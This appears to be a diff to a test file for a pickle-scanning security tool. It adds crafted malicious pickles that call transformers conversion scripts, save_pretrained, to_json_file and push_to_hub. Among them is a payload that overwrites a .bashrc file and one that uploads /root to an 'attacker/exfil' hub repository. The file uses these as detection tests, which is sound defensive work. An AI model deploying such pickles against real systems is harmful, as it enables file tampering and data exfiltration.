@@ -2,10 +2,14 @@
 
 transformers has no Debian 12 package, so the dangerous sweep cannot read it, and benign.toml
 clears `transformers.models.*` and `transformers.modeling_utils.*` by wildcard. The callables of
-the published advisories are named by hand in rules/libraries.toml; a pickle calling one with
-the attacker's path must scan `unsafe` with the action and that path in the summary, while the
-benign transformers objects beside them stay cleared. The pickles are written opcode by opcode
-(the library is not installed; nothing is ever called)."""
+the published advisories are named by hand in rules/libraries.toml, and so are whole classes
+the wildcard would otherwise clear: every conversion script (`transformers.models.*.convert_*`,
+a name glob, so a model nobody listed is covered too) and the methods that write or upload
+(`save_pretrained`, `push_to_hub`, `to_json_file`: attribute names in rules/stdlib.toml). A
+pickle calling one must scan `unsafe` with the action (and the attacker's path where the rule
+names an argument) in the summary, while the benign transformers objects beside them stay
+cleared. The pickles are written opcode by opcode (the library is not installed; nothing is
+ever called)."""
 
 import os
 import sys
@@ -39,6 +43,15 @@ def call(dotted, *args):
     return b"\x80\x02" + op_global(dotted) + b"(" + body + b"tR."
 
 
+def call_method(module, qualname, *args):
+    """PROTO 4, STACK_GLOBAL(module, "Class.method") called with str arguments (None for self)."""
+    def short(t):
+        b = t.encode()
+        return b"\x8c" + bytes([len(b)]) + b
+    body = b"".join(b"N" if a is None else op_str(a) for a in args)
+    return b"\x80\x04" + short(module) + short(qualname) + b"\x93(" + body + b"tR."
+
+
 EVIL = "/tmp/mv-evil-dir"
 TFXL = "transformers.models.deprecated.transfo_xl.tokenization_transfo_xl"
 # name -> (pickle, text the summary must hold)
@@ -66,6 +79,34 @@ CASES = {
         call("transformers.models.reformer.convert_reformer_trax_checkpoint_to_pytorch."
              "convert_trax_checkpoint_to_pytorch", EVIL + "/model.pkl", "c.json", "out"),
         "loads an original checkpoint or config (its code runs)"),
+    # Conversion scripts no rule names one by one: the glob covers every model's.
+    "bert-tf-conversion": (
+        call("transformers.models.bert.convert_bert_original_tf_checkpoint_to_pytorch."
+             "convert_tf_checkpoint_to_pytorch", EVIL + "/model.ckpt", "c.json", "out"),
+        "loads an original checkpoint or config (its code runs)"),
+    "llama-conversion": (
+        call("transformers.models.llama.convert_llama_weights_to_hf.write_model", "out", EVIL),
+        "loads an original checkpoint or config (its code runs)"),
+    "deprecated-model-conversion": (
+        call("transformers.models.deprecated.van.convert_van_to_pytorch.convert_weights",
+             "van-base", EVIL, "out"),
+        "loads an original checkpoint or config (its code runs)"),
+    # Methods every model, tokenizer and config has, which write or upload.
+    "save-pretrained": (
+        call_method("transformers.models.bert.modeling_bert", "BertModel.save_pretrained",
+                    None, EVIL),
+        "writes model files where it is told"),
+    "config-to-json-file": (
+        call_method("transformers.configuration_utils", "PretrainedConfig.to_json_file",
+                    None, EVIL + "/.bashrc"),
+        "writes model files where it is told"),
+    "push-to-hub": (
+        call_method("transformers.models.bert.tokenization_bert", "BertTokenizer.push_to_hub",
+                    None, "attacker/exfil"),
+        "uploads files to a hub repository"),
+    "hub-upload-folder": (
+        call("huggingface_hub.hf_api.upload_folder", "attacker/exfil", "/root"),
+        "uploads files to a hub repository"),
 }
 # Benign objects of the same modules' neighbours stay cleared by benign.toml's wildcards.
 BENIGN = {
@@ -73,6 +114,10 @@ BENIGN = {
     + b")\x81}b.",
     "bert-tokenizer": b"\x80\x02"
     + op_global("transformers.models.bert.tokenization_bert.BertTokenizer") + b")\x81}b.",
+    # A model whose name starts like the conversion scripts' (convnext, not convert_*).
+    "convnext-config": b"\x80\x02"
+    + op_global("transformers.models.convnext.configuration_convnext.ConvNextConfig")
+    + b")\x81}b.",
 }
 
 
